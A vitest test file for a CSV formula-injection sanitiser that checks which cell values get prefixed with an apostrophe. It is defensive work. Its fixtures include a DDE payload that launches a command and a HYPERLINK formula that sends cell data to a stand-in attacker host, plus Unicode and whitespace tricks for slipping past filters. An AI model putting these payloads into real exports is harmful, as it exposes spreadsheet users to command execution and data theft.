import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { isFormulaLike, neutralizeFormula } from './formula';

const hyperlink = '=HYPERLINK("https://evil.example/?"&A2,"Click")';

/** [why it matters, text] — every one must be neutralised. */
const formulaLike: [string, string][] = [
  ['equals', '=1+1'],
  ['plus', '+1+1'],
  ['minus', '-1+1'],
  ['at (Lotus-style function)', '@SUM(A1:A2)'],
  ['DDE payload', "=cmd|'/c calc'!A0"],
  ['hyperlink exfiltration', hyperlink],
  ['bare trigger', '='],
  ['text that looks like a negative number', '-5'],
  ['text that looks like a signed phone number', '+49 30 1234567'],
  ['tab first', '\t=1+1'],
  ['tab before plain text', '\tnote'],
  ['CR first', '\rnote'],
  ['LF first', '\nnote'],
  ['NUL first', '\0note'],
  ['multi-line, LF after the formula', `${hyperlink}\nnote`],
  ['multi-line, CRLF after the formula', '=1+1\r\nnote'],
  ['multi-line, LF before the formula', '\n=1+1'],
  ['multi-line, CRLF before the formula', '\r\n=1+1\r\nmore'],
  ['leading space', ' =1+1'],
  ['leading spaces before plus', '   +1'],
  ['leading space and tab', ' \t@SUM(A1)'],
  ['leading space then LF', ' \n=1+1'],
  ['leading NBSP', '\u00a0=1+1'],
  ['leading ideographic space', '\u3000=1+1'],
  ['leading zero-width space', '\u200b=1+1'],
  ['leading BOM', '\ufeff=1+1'],
  ['leading left-to-right mark', '\u200e-1'],
  ['fullwidth equals', '＝1+1'],
  ['fullwidth plus', '＋1'],
  ['fullwidth minus', '－1'],
  ['fullwidth at', '＠SUM(A1)'],
  ['fullwidth equals after ideographic space', '\u3000＝1+1'],
  ['fullwidth equals, multi-line', '＝1+1\nnote'],
  ['fullwidth equals after LF', '\n＝1+1'],
  ['small equals (NFKC =)', '\ufe661+1'],
  ['superscript plus (NFKC +)', '\u207a1']
];

/** [why it must stay as it is, text] */
const plainText: [string, string][] = [
  ['empty', ''],
  ['word', 'note'],
  ['spaces only', '   '],
  ['formula on a later line: one cell that starts with "note"', 'note\n=1+1'],
  ['already neutralised', "'=1+1"],
  ['digit first', '5'],
  ['arithmetic not at the start', '1-2'],
  ['equals inside', 'a=b'],
  ['hex blob text', '0x0aff'],
  ['leading space before a word', ' note'],
  ['leading ideographic space before a word', '\u3000注記'],
  ['hash', '#REF!'],
  ['Arabic', 'مشتری'],
  ['emoji', '👩‍👩‍👧‍👦']
];

describe('isFormulaLike', () => {
  it.each(formulaLike)('flags %s', (_why, text) => {
    expect(isFormulaLike(text)).toBe(true);
  });

  it.each(plainText)('leaves %s', (_why, text) => {
    expect(isFormulaLike(text)).toBe(false);
  });
});

describe('neutralizeFormula', () => {
  it.each(formulaLike)('prefixes %s with an apostrophe', (_why, text) => {
    expect(neutralizeFormula(text)).toBe(`'${text}`);
  });

  it.each(plainText)('returns %s unchanged', (_why, text) => {
    expect(neutralizeFormula(text)).toBe(text);
  });

  it('is idempotent', () => {
    for (const [, text] of [...formulaLike, ...plainText]) {
      expect(neutralizeFormula(neutralizeFormula(text))).toBe(neutralizeFormula(text));
    }
  });
});

// Why we do not use papaparse's `escapeFormulae` (RELIABILITY.md §0 finding 8): these are the cases it misses.
// If a papaparse upgrade fixes them, this test fails and the note in formula.ts should be updated.
describe('papaparse escapeFormulae (for comparison)', () => {
  it.each([
    ['multi-line', `${hyperlink}\nnote`],
    ['leading space', ' =1+1'],
    ['fullwidth equals', '＝1+1']
  ])('misses %s, which isFormulaLike catches', (_why, text) => {
    const written = Papa.unparse([[text]], { escapeFormulae: true });
    expect(written).not.toContain("'");
    expect(isFormulaLike(text)).toBe(true);
  });
});
